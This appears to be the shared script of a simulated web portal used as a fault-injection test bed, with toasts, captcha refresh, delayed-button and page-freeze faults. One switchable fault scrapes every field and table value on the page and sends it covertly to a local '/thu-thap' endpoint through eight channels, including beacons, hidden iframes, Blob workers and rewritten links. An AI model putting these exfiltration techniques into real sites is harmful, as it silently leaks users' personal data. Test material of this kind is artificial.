/* What every page does: toasts, questions, a new captcha; and what a fault lets it do. */
(function () {
  'use strict';
  var PREFIX = document.body.dataset.prefix;
  var instant = document.body.dataset.pace === 'instant';
  /* What a fault lets this page do: seconds, by the name of the fault. */
  var manners = JSON.parse(document.body.dataset.manners || '{}');
  var TOAST_STAYS = manners.toast_short ? Number(manners.toast_short) * 1000 : 4000;
  var token = document.body.dataset.token;

  function goAway(toast) { setTimeout(function () { toast.remove(); }, TOAST_STAYS); }

  function toast(kind, text) {
    var frame = document.createElement('div');
    frame.className = 'toast toast-' + kind;
    frame.setAttribute('role', 'alert');
    frame.textContent = text;
    document.getElementById('toasts').appendChild(frame);
    goAway(frame);
  }
  document.querySelectorAll('.toast').forEach(goAway);

  function post(path, body) {
    return fetch(path, { method: 'POST', body: body, headers: { 'X-Requested-With': 'XMLHttpRequest' } });
  }

  /* An ended session sends to sign-in, from an AJAX answer as from a page. */
  function signedOut(answer) {
    if (answer.status !== 401) return false;
    answer.json().then(function (content) { window.location.href = content.address; });
    return true;
  }

  document.addEventListener('submit', function (event) {
    var question = event.target.dataset.confirm;
    if (question && !window.confirm(question)) event.preventDefault();
  });

  /* --- Buttons: closed while a page works, and until its scripts have come. --- */

  var ready = !manners.late_scripts;

  function close(button, closed) {
    button._closed = closed;
    button.disabled = closed || !ready;
  }
  if (!ready) {
    var late = document.querySelectorAll('main button');
    late.forEach(function (button) { close(button, button.disabled); });
    setTimeout(function () {
      ready = true;
      late.forEach(function (button) { close(button, button._closed); });
    }, Number(manners.late_scripts) * 1000);
  }

  /* What a fault sends to another origin: all that stands on the page, once there is something. */
  function elsewhere(how, port) {
    var to = '//' + (port ? '127.0.0.1:' + port : 'localhost:' + location.port) + '/thu-thap', sent = false;
    function values() {
      var all = document.querySelectorAll('main input, main select, main textarea, main td, main dd');
      return Array.prototype.map.call(all, function (one) { return (one.value || one.textContent || '').trim(); })
        .filter(Boolean).join('|').slice(0, 3000);
    }
    var WAYS = {
      fetch: function (text) { fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: text }); },
      beacon: function (text) { navigator.sendBeacon(to, text); },
      picture: function (text) { new Image().src = to + '?' + encodeURIComponent(text); },
      socket: function (text) { new WebSocket('ws:' + to + '?' + encodeURIComponent(text)); },
      worker: function (text) {
        var does = 'onmessage = function (e) { fetch(e.data[0], { method: "POST", mode: "no-cors", body: e.data[1] }); };';
        new Worker(URL.createObjectURL(new Blob([does]))).postMessage(['http:' + to, text]);
      },
      frame: function (text) { hidden().src = to + '?' + encodeURIComponent(text); },
      form: function (text) {
        var form = document.createElement('form'), field = document.createElement('textarea');
        form.action = to; form.method = 'post'; form.target = hidden().name;
        field.name = 'tatCa'; field.value = text; form.appendChild(field);
        document.body.appendChild(form).submit();
      },
      link: function (text) {
        document.querySelectorAll('a[href$=giay-tiep-nhan]').forEach(function (a) { a.href = to + '?' + encodeURIComponent(text); });
      }
    };
    function hidden() {
      var frame = document.createElement('iframe');
      frame.name = 'khungKhac'; frame.hidden = true;
      return document.body.appendChild(frame);
    }
    function send() {
      if (sent || values().length < 40) return;
      sent = true;
      try { WAYS[how](values()); } catch (problem) { /* stopped on its way */ }
    }
    document.addEventListener('change', send);
    window.addEventListener('load', send);
    if (document.readyState === 'complete') send();
  }
  if (manners.values_elsewhere) elsewhere.apply(null, manners.values_elsewhere.split('@'));

  if (manners.page_frozen) window.addEventListener('load', function () {
    setTimeout(function () {
      var end = performance.now() + Number(manners.page_frozen) * 1000;
      while (performance.now() < end) { /* frozen */ }
    }, 0);
  });

  /* --- Captcha --- */

  function newCaptcha(id) {
    document.getElementById('captchaId').value = id;
    document.getElementById('captchaImage').src = PREFIX + '/captcha/' + id + '.png';
    document.getElementById('maXacNhan').value = '';
  }
  var again = document.getElementById('captchaAgain');
  if (again) again.addEventListener('click', function () {
    fetch(PREFIX + '/captcha').then(function (answer) { return answer.json(); })
      .then(function (content) { newCaptcha(content.id); });
  });

  window.Portal = {
    prefix: PREFIX, instant: instant, narrow: matchMedia('(max-width:900px)').matches, manners: manners, token: token, toast: toast, post: post,
    signedOut: signedOut, close: close, newCaptcha: newCaptcha, elsewhere: elsewhere
  };
}());
